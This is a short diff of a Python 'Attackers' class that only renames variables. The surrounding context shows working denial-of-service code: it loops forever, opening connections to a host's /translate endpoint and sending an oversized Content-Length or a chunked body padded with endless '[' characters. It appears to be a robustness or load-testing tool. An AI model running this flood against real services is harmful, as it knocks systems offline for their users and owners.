@@ -149,14 +149,14 @@ class Attackers:
         begin = f"POST /translate HTTP/1.1\r\nHost: {self.make.host}\r\n"
         kind = "Content-Type: application/json\r\n"
         while True:
-            for more, block in (
+            for header, block in (
                 ("Content-Length: 1000000000\r\n\r\n", b"[" * 65_536),
                 ("Transfer-Encoding: chunked\r\n\r\n", b"10000\r\n" + b"[" * 65_536 + b"\r\n"),
             ):
                 with suppress(OSError):
                     _, writer = await self._connect()
                     try:
-                        writer.write((begin + kind + more).encode())
+                        writer.write((begin + kind + header).encode())
                         for _ in range(64):
                             if writer.is_closing():
                                 break
@@ -185,8 +185,8 @@ class Attackers:
 
 def main() -> None:
     """Read an attack from stdin, run it, write the report to stdout."""
-    given: dict[str, Any] = json.load(sys.stdin)
-    json.dump(asdict(asyncio.run(Attackers(Attack(**given)).run())), sys.stdout)
+    settings: dict[str, Any] = json.load(sys.stdin)
+    json.dump(asdict(asyncio.run(Attackers(Attack(**settings)).run())), sys.stdout)
 
 
 if __name__ == "__main__":
